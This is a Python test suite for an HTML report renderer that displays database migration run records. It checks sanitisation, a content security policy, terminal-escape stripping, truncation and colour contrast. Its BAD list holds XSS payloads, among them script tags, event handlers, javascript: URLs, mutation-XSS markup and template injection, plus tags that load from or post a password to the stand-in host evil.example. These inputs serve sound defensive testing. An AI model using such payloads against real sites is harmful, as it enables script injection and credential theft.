"""Pages: what a record holds is shown, and whatever it holds, nothing of it runs and nothing is loaded."""

from __future__ import annotations

import base64
import re
import time
from pathlib import Path
from typing import Any

import bs4
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from afdb_helpers import pages
from afdb_helpers.pages import cells, facts, history, markup

RUN: dict[str, Any] = {
    "id": "20261122T154233Z-migration-production-7f3a",
    "mode": "engine",
    "runbook": {"name": "migration"},
    "target": {
        "name": "production",
        "label": "app@db/agents",
        "protected": True,
        "server": {"version": "18.1", "dialect": "postgresql"},
    },
    "who": {"os_user": "ada", "git_author": "Ada <ada@example.org>", "ci_actor": ""},
    "approval": {
        "digest": "sha256:abc",
        "approver": "Grace",
        "signed": True,
        "change_ref": "OPS-12",
        "reason": "billing",
    },
    "revision": {"from": ["001"], "to": ["002"]},
    "ledger": f"12:{'0' * 64}",
    "changed": True,
    "clock_skew": 0.01,
    "parameters_given": ["target", "revision"],
    "parameters": {"target": "production", "revision": "1975e0837120", "approve": ""},
    "evidence": [{"kind": "backup", "id": "b-1"}],
    "git": {"sha": "0123abcd"},
    "started": "2026-11-22T15:42:33Z",
    "ended": "2026-11-22T15:43:00Z",
    "seconds": 27.04,
    "outcome": "failed_changed",
    "headline": "not all of it was done",
    "cause": "cell 4: Incomplete",
    "page": "x/report.html",
}
BAD = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x.png>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVa\nScript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src=http://evil.example></iframe>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css); body{display:none}</style>",
    "<p style='background:url(http://evil.example/x.png);position:fixed;color:red'>x</p>",
    "<form action=http://evil.example><input name=password><button>go</button></form>",
    "<video src=http://evil.example autoplay></video>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</pre></div></main></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "{{ 7 * 7 }}{% include 'page.html' %}",
]
LOADING = {"script", "iframe", "object", "embed", "base", "link", "form", "input", "button", "video", "audio", "svg",
           "math", "source", "track", "frame", "applet"}  # fmt: skip


def _cell(*outputs: dict[str, Any], source: str = "run.close(report)", status: str = "completed") -> dict[str, Any]:
    papermill = {"papermill": {"status": status}}
    return {"cell_type": "code", "source": source, "metadata": papermill, "outputs": list(outputs)}


def _markup(text: str) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {"text/html": text, "text/plain": "plain"}, "metadata": {}}


def _stream(text: str) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": text}


def _index(*runs: dict[str, Any]) -> str:
    head, tail = pages.index(len(runs), {str(facts.part(run, "target").get("name")) for run in runs})
    return f"{head}<tbody>{''.join(pages.row(run, run.get('page', '')) for run in runs)}</tbody>{tail}"


def _target(*runs: dict[str, Any]) -> str:
    shorts = [history.short(run, "../x/report.html", {"begin": 1.5, "migrate": 30.0}) for run in runs]
    return pages.target(shorts[0]["target"], shorts, [one for one in shorts if one["changed"]], len(runs))


def _page(*cells: dict[str, Any], run: dict[str, Any] | None = None) -> str:
    return pages.record(RUN if run is None else run, {"cells": list(cells)})


def _inert(page: str, *, scripts: int = 0) -> bs4.BeautifulSoup:
    """The page, once it is shown to run nothing but its own script, if it has one, and to load nothing."""
    read = bs4.BeautifulSoup(page, "html.parser")
    own = read.find_all("script")
    assert [str(script.string).lstrip()[:12] for script in own] == ['"use strict"'] * scripts
    for drawn in [*own, *read.select("main svg[viewBox], main svg[viewbox]")]:
        drawn.decompose()
    assert len(read.find_all("style")) == 1, "the page's own"
    assert "url(" not in str(read.find("style"))
    assert "@import" not in str(read.find("style"))
    assert [m["http-equiv"] for m in read.find_all("meta") if m.get("http-equiv")] == ["Content-Security-Policy"]
    _harmless(read)
    return read


def _harmless(read: bs4.BeautifulSoup) -> None:
    """No tag that loads or runs, and no attribute that does."""
    assert not LOADING & {tag.name for tag in read.find_all(True)}
    for tag in read.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")]
        assert str(tag.get("src", "data:image/")).startswith("data:image/")
        assert not re.match(r"\s*(javascript|data|vbscript):", str(tag.get("href", "")), re.IGNORECASE)
        assert not {"srcset", "action", "formaction", "background", "poster", "ping"} & set(tag.attrs)
        assert "style" not in tag.attrs


def test_the_policy_allows_nothing_but_the_pages_own_styles_and_embedded_pictures() -> None:
    for page in (_page(), _target(RUN)):
        policy = bs4.BeautifulSoup(page, "html.parser").find("meta", attrs={"http-equiv": "Content-Security-Policy"})
        assert isinstance(policy, bs4.Tag)
        rules = re.sub("sha256-[A-Za-z0-9+/=]{44}", "sha256-…", str(policy["content"])).split("; ")
        assert rules == ["default-src 'none'", "style-src 'sha256-…'", "img-src data:", "base-uri 'none'",
                         "form-action 'none'"]  # fmt: skip
        assert page.index("Content-Security-Policy") < page.index("<style"), "it is read before anything else"
    rules = pages.policy("style", "script").split("; ")
    assert [rule.partition(" ")[0] for rule in rules if "sha256" in rule] == ["style-src", "script-src"]
    assert "unsafe" not in "".join(rules)


@pytest.mark.parametrize("bad", BAD)
def test_hostile_markup_is_inert_wherever_it_stands(bad: str) -> None:
    plain = ("id", "outcome", "headline", "cause", "started", "ended", "mode")
    hostile: dict[str, Any] = dict.fromkeys(plain, bad)
    hostile |= {"runbook": {"name": bad}, "target": {"name": bad, "label": bad, "server": {"version": bad}},
                "who": {"os_user": bad, "git_author": bad, "ci_actor": bad}, "git": {"sha": bad}, "page": bad,
                "approval": {"digest": bad, "change_ref": bad, "reason": bad}, "evidence": [{"id": bad}],
                "parameters": {bad: bad}}  # fmt: skip
    cells = [
        {"cell_type": "markdown", "source": bad},
        {"cell_type": "markdown", "source": f"[x]({bad})\n\n![x]({bad})\n\n<{bad}>"},
        _cell(_markup(bad), _markup(f"<table><tr><td>{bad}</td></tr></table>"), _stream(bad), source=bad, status=bad),
        _cell({"output_type": "error", "ename": bad, "evalue": bad, "traceback": [bad]}),
        _cell({"output_type": "display_data", "data": {"image/png": bad}}),
        _cell({"output_type": "display_data", "data": {"image/svg+xml": bad}}),
    ]
    shown = _inert(_page(*cells, run=hostile))
    _inert(_index(hostile), scripts=1)
    _inert(_target(hostile))
    assert "49" not in shown.get_text(), "no template within a template"


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=60), st.sampled_from(BAD), st.text(max_size=20))
def test_no_text_around_it_sets_it_free(before: str, bad: str, after: str) -> None:
    _harmless(bs4.BeautifulSoup(markup.clean(before + bad + after), "html.parser"))
    _harmless(bs4.BeautifulSoup(cells.markdown(before + bad + after), "html.parser"))
    _harmless(bs4.BeautifulSoup(markup.escape(before + bad + after), "html.parser"))


def test_the_control_without_cleaning_it_would_run(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cells, "clean", lambda markup: markup)
    with pytest.raises(AssertionError):
        _inert(_page(_cell(_markup(BAD[0]))))


def test_a_link_in_the_index_leads_into_its_folder_whatever_the_record_is_called() -> None:
    for id_ in ("javascript:alert(1)//", "//evil.example", "data:text/html,x", "../../x?y#z"):
        page = bs4.BeautifulSoup(pages.row(RUN, f"{id_}/report.html"), "html.parser")
        assert [str(link["href"])[:2] for link in page.find_all("a")] == ["./"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b[38:2::255:0:0mred\x1b[0m", "red"),
        ("\x1b]0;a title\x07seen", "seen"),
        ("\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ and more", "link and more"),
        ("\x1b]8;;x\x1b\\what matters\x07 is kept", "what matters is kept"),
        ("\x1b]never closed, and kept", "]never closed, and kept"),
        ("a\x00b\x08c\x7fd\x9b31me", "abcd31me"),
        ("abc\u202edcba\u2066x", "abcdcbax"),
        ("one\ttwo\nthree", "one\ttwo\nthree"),
        ("rewritten\rover", "rewrittenover"),
    ],
)
def test_what_a_terminal_would_obey_is_taken_out_and_the_rest_is_kept(text: str, shown: str) -> None:
    assert pages.plain(text) == shown
    page = _page(_cell(_stream(text), source=f"# {text}"), run={**RUN, "headline": text, "parameters": {"x": text}})
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)


def test_what_is_harmless_stays() -> None:
    kept = (
        '<table><thead><tr><th colspan="2">table</th></tr></thead><tbody><tr>'
        '<td class="right">1,234</td><td>a &amp; b</td></tr></tbody></table>'
    )
    assert pages.clean(kept.replace('class="right"', 'style="padding:1em;text-align: right"')) == kept
    link = '<a href="https://example.org/x?a=1&amp;b=2" rel="noreferrer noopener">x</a>'
    assert pages.clean(link) == link


def test_a_picture_stands_in_the_page() -> None:
    raw = base64.b64encode(b"\x89PNG picture").decode()
    page = _inert(
        _page(
            _cell({"output_type": "display_data", "data": {"image/png": [raw[:5], raw[5:] + "\n"], "text/plain": "F"}})
        )
    )
    (picture,) = page.find_all("img")
    assert picture["src"] == f"data:image/png;base64,{raw}"
    assert picture["alt"]


def _asked(read: bs4.BeautifulSoup) -> dict[str, str]:
    said = [one.get_text(" ", strip=True) for one in read.select("dl.facts dt, dl.facts dd")]
    return dict(zip(said[::2], said[1::2], strict=True))


def test_the_first_screen_answers_the_eight_questions() -> None:
    read = _inert(_page())
    asked = _asked(read)
    assert list(asked) == ["Result", "What", "Where", "When", "Who", "Why", "Approved by", "Evidence", "Proof"]
    for question, said in {
        "Result": "Failed after changes began", "What": "revision 001 → 002", "Where": "production (protected)",
        "When": "2026-11-22 15:42:33 to 15:43:00 UTC", "Who": "ada", "Why": "OPS-12 · billing",
        "Approved by": "Grace (signed)", "Evidence": "backup b-1", "Proof": "ledger entry 12",
    }.items():  # fmt: skip
        assert said in asked[question]
    assert "target = production, revision = 1975e0837120" in asked["What"]
    assert "approve =" not in asked["What"], "what was not given is left out"
    given = {"target": "production", "change_ref": "", "approve": RUN["approval"]["digest"], "drop_data": True}
    said = _asked(_inert(_page(run={**RUN, "parameters": given, "parameters_given": sorted(given)})))["What"]
    assert "drop_data = yes, target = production" in said
    assert "change_ref" not in said, "an empty one says nothing"
    assert "approve =" not in said, "the digest stands under Approved by"
    given = {key: RUN["approval"][key] for key in ("approver", "change_ref", "reason")} | {"target": "production"}
    said = _asked(_inert(_page(run={**RUN, "parameters": given, "parameters_given": sorted(given)})))["What"]
    assert [word for word in given if word in said] == ["target"], "the others stand below"
    assert "PostgreSQL 18.1" in asked["Where"]
    assert "took 27.0 s" in asked["When"]
    assert "sha256:abc" in asked["Approved by"]
    assert "the target was changed" in asked["Result"]
    assert f"afdb records verify {RUN['id']}" in asked["Proof"]


def test_a_question_that_the_record_does_not_answer_says_so() -> None:
    read = _inert(_page(run={"id": "x"}))
    asked = _asked(read)
    assert asked["Who"] == "not recorded"
    assert asked["Why"] == "no change number and no reason were given"
    assert asked["Approved by"].startswith("nobody")
    assert asked["Evidence"].startswith("none")


def test_a_refusal_is_no_crash_and_names_who_was_named() -> None:
    refused = {**RUN, "outcome": "refused", "cause": "exception", "parameters": {"approver": "root"}}
    asked = _asked(_inert(_page(run={**refused, "approval": {"digest": "sha256:abc", "approver": None}})))
    assert "Cause" not in asked["Result"]
    assert asked["Approved by"].startswith("nobody yet: root was named")
    stopped = {**refused, "outcome": "failed_unchanged", "failing_cell": "step-1"}
    assert "stopped in step step-1" in _asked(_inert(_page(run=stopped)))["Result"]


@pytest.mark.parametrize(("skew", "said"), [(10_800.0, "3 h 0 min ahead of"), (-10_800.0, "3 h 0 min behind")])
def test_a_server_whose_clock_is_three_hours_off_is_pointed_out_a35(skew: float, said: str) -> None:
    read = _inert(_page(run={**RUN, "clock_skew": skew}))
    assert said in str(read.select_one("p.note"))
    assert said in read.select("dl.facts dd")[3].get_text()
    assert not _inert(_page(run={**RUN, "clock_skew": 0.4})).select("p.note")


@pytest.mark.parametrize("key", sorted(RUN.keys() - {"page"}))
@pytest.mark.parametrize("value", [[], {}, 1, float("nan"), "x", True, [[1]], {"name": [2], "from": 3, "server": []}])
def test_whatever_a_damaged_record_holds_its_pages_are_made(key: str, value: Any) -> None:
    damaged = {**RUN, key: value}
    assert pages.record(damaged, {"cells": value})
    assert _target(damaged)
    assert _index(damaged)


def test_an_output_of_50_mb_is_cut_and_says_so() -> None:
    big = "0123456789" * 5_000_000
    html = "<p>" + big
    began = time.monotonic()
    page = _page(_cell(_stream(big), _markup(html)), {"cell_type": "markdown", "source": big})
    assert time.monotonic() - began < 60
    assert len(page) < 1_000_000
    assert "49,900,000 characters left out here" in page
    whole = _page(_cell(_stream(big[: cells.TEXT])))
    assert "left out" not in whole, "the control: what fits is whole"


def test_many_outputs_together_fill_a_page_and_the_rest_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cells, "PAGE", 5 * cells.TEXT)
    page = _page(*[_cell(_stream("x" * cells.TEXT)) for _ in range(8)])
    assert len(page) < 600_000
    assert page.count("since this page is full: 100,000 characters") == 3


@pytest.mark.parametrize(
    "bad", ["<", "<!--", "<a b='", "<a ", "<script>", "<style></style", "<div>", "<a b= ", "&#x202e;"]
)
def test_markup_is_read_in_linear_time(bad: str) -> None:
    began = time.monotonic()
    markup.clean(bad * (150_000 // len(bad)))
    assert time.monotonic() - began < 60  # a tenth of a second on a quiet machine; what is quadratic takes hours


def test_every_tag_that_is_opened_is_closed_and_no_other() -> None:
    assert pages.clean("<p><b>x</p></div></main>y") == "<p><b>x</b></p>y"
    assert pages.clean("<td>" * 500).count("</td>") == 64


def test_cells_are_shown_in_order_and_those_that_never_ran_are_marked() -> None:
    read = _inert(_page(
        {"cell_type": "markdown", "source": "## Preconditions\n\n| a | b |\n|---|---|\n| 1 | 2 |"},
        _cell(_stream("it ran"), source="first()"),
        _cell(source="second()", status="pending"),
        _cell(source="   "),
    ))  # fmt: skip
    text = read.get_text(" ", strip=True)
    assert text.index("Preconditions") < text.index("first()") < text.index("it ran") < text.index("second()")
    assert text.count("This step never ran.") == 1
    assert len(read.find_all("details")) == 2, "an empty cell is left out"
    assert read.find("table") is not None


def test_an_interactive_run_says_that_it_is_no_audit_record() -> None:
    assert "not an audit record" in _page(run={**RUN, "mode": "interactive"})
    assert "not an audit record" not in _page()
    assert "not an audit record" in _index({**RUN, "mode": "interactive"})
    assert "afdb run migration --target production" in _page(run={**RUN, "mode": "interactive"})
    assert "not an audit record" in _page(run={**RUN, "mode": "trial"})


@pytest.mark.parametrize(
    "run",
    [
        {},
        {"id": "x"},
        {"id": "x", "runbook": None, "target": None, "who": None, "outcome": None},
        {"id": "x", "started": "2026-11-22T15:42:33Z", "runbook": {"name": "backup"}},
    ],
)
def test_the_record_of_a_run_that_was_killed_is_shown_as_far_as_it_goes(run: dict[str, Any]) -> None:
    assert "No end recorded" in _inert(_page(run=run)).get_text()
    assert "No end recorded" in _inert(_index(run), scripts=1).get_text()


# --- the page of a target


def _ran(number: int, **more: Any) -> dict[str, Any]:
    return {**RUN, "id": f"r{number}", "started": f"2026-11-{number:02}T10:00:00+00:00", **more}


def test_a_target_shows_its_history_its_revisions_and_how_long_its_steps_take() -> None:
    read = bs4.BeautifulSoup(_target(_ran(3), _ran(2, revision=None), _ran(1)), "html.parser")
    said = [item.get_text(" ", strip=True) for item in read.select("ol.line li")]
    assert [one[2:12] for one in said] == ["2026-11-03", "2026-11-02", "2026-11-01"]
    assert ["001 → 002" in one for one in said] == [True, False, True]
    way, strip = read.select("svg")
    assert [label.get_text() for label in way.select("text")][:2] == ["001", "002"]
    assert len(way.select("circle")) == 2
    assert [text.get_text() for text in strip.select("text") if "soft" not in (text.get("class") or [])] == [
        "begin",
        "migrate",
    ]
    assert len(strip.select("circle.last")) == 2
    assert len(strip.select("circle.past")) == 4
    assert "002, since 2026-11-03 10:00:00 UTC" in read.get_text()


def test_a_longer_step_stands_further_right_on_one_scale() -> None:
    def at(seconds: float) -> float:
        short = history.short(RUN, "", {"begin": 1.0, "migrate": seconds})
        return float(history.strips([short])[0]["rows"][1]["dots"][0]["x"])

    assert at(3.0) < at(30.0) < at(90.0)
    assert at(9.0) - at(3.0) == pytest.approx(at(3.0) - at(1.0), abs=1), "powers of ten"


def test_the_names_of_targets_pages_are_file_names_and_differ() -> None:
    names = ["production", "a/b", "a_b", "../../x", "é", "", "x" * 300, "x" * 301]
    files = [history.file_name(name) for name in names]
    assert len(set(files)) == len(names)
    assert all(re.fullmatch(r"target-[A-Za-z0-9_-]*\.html", file) for file in files)


# --- colours


def _colours(css: str) -> tuple[dict[str, str], dict[str, str]]:
    light, dark = (dict(re.findall(r"--(\w+): (#[0-9a-f]{6})", part)) for part in css.split("@media screen", 1))
    return light, light | dark


def _light(colour: str, matrix: tuple[tuple[float, ...], ...] = ((1, 0, 0), (0, 1, 0), (0, 0, 1))) -> list[float]:
    srgb = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in srgb]
    return [sum(m * c for m, c in zip(row, linear, strict=True)) for row in matrix]


def _contrast(one: str, other: str) -> float:
    a, b = sorted(sum(w * c for w, c in zip((0.2126, 0.7152, 0.0722), _light(x), strict=True)) for x in (one, other))
    return (b + 0.05) / (a + 0.05)


def test_contrast_is_reckoned_as_wcag_says() -> None:
    assert _contrast("#ffffff", "#000000") == pytest.approx(21)
    assert _contrast("#777777", "#ffffff") < 4.5 < _contrast("#767676", "#ffffff")


@pytest.mark.parametrize("theme", [0, 1], ids=["light", "dark"])
def test_every_text_has_the_contrast_of_wcag_aa_on_every_ground(theme: int) -> None:
    colours = _colours((Path(pages.__file__).parent / "style.css").read_text())[theme]
    for ink in ("ink", "soft", "good", "bad", "warn", "link"):
        for ground in ("paper", "panel"):
            assert _contrast(colours[ink], colours[ground]) >= 4.5, (ink, ground)
    assert _contrast(colours["ink"], colours["mark"]) >= 4.5


@pytest.mark.parametrize("theme", [0, 1], ids=["light", "dark"])
def test_good_and_bad_differ_to_the_colour_blind_also_without_their_signs(theme: int) -> None:
    """Protanopia and deuteranopia after Viénot, Brettel and Mollon (1999), in linear RGB."""
    colours = _colours((Path(pages.__file__).parent / "style.css").read_text())[theme]
    blind = (((0.11238, 0.88762, 0), (0.11238, 0.88762, 0), (0.00401, -0.00401, 1)),
             ((0.29275, 0.70725, 0), (0.29275, 0.70725, 0), (-0.02234, 0.02234, 1)))  # fmt: skip
    for seen in blind:
        good, bad = (_light(colours[name], seen) for name in ("good", "bad"))
        assert sum(abs(a - b) for a, b in zip(good, bad, strict=True)) > 0.1
    red, green = (_light(colour, blind[1]) for colour in ("#a05a2c", "#6b6b2f"))
    assert sum(abs(a - b) for a, b in zip(red, green, strict=True)) < 0.1, "the control: two that look alike"


def test_a_refusal_says_what_why_and_what_to_do_apart_wherever_it_is_listed() -> None:
    said = "Refused: there is no migration to go by\n  why: none has succeeded\n  do:  afdb prepare"
    refused = {**RUN, "outcome": "refused", "cause": "exception", "headline": said}
    page = bs4.BeautifulSoup(_page(run=refused), "html.parser")
    lead = page.select_one(".lead")
    assert lead
    assert list(lead.stripped_strings) == [
        "there is no migration to go by",
        "why: none has succeeded",
        "do:  afdb prepare",
    ]
    for listed in (_index(refused), _target(refused)):
        assert "there is no migration to go by: none has succeeded<" in " ".join(listed.split()).replace(" <", "<")
        assert "Refused:" not in listed
    other = {**RUN, "headline": "ValueError: x"}
    assert "ValueError: x" in _index(other), "the control: an error of somebody else's keeps its name"


def test_switches_are_said_in_words_and_those_that_nobody_set_are_not() -> None:
    given = {
        **RUN,
        "parameters_given": ["emergency", "drop_data"],
        "parameters": {"emergency": True, "drop_data": False},
    }
    assert "emergency = yes, drop_data = no" in _page(run=given)
    older = {**given, "parameters_given": None}
    assert ("emergency = yes" in _page(run=older), "drop_data" in _page(run=older)) == (True, False)


def test_what_an_approver_signed_is_a_click_away_where_the_record_holds_it() -> None:
    link = 'href="approval.json"'
    assert link in _page(run={**RUN, "approval": {**RUN["approval"], "signed": True}})
    assert link not in _page(run={**RUN, "approval": {**RUN["approval"], "signed": False}})
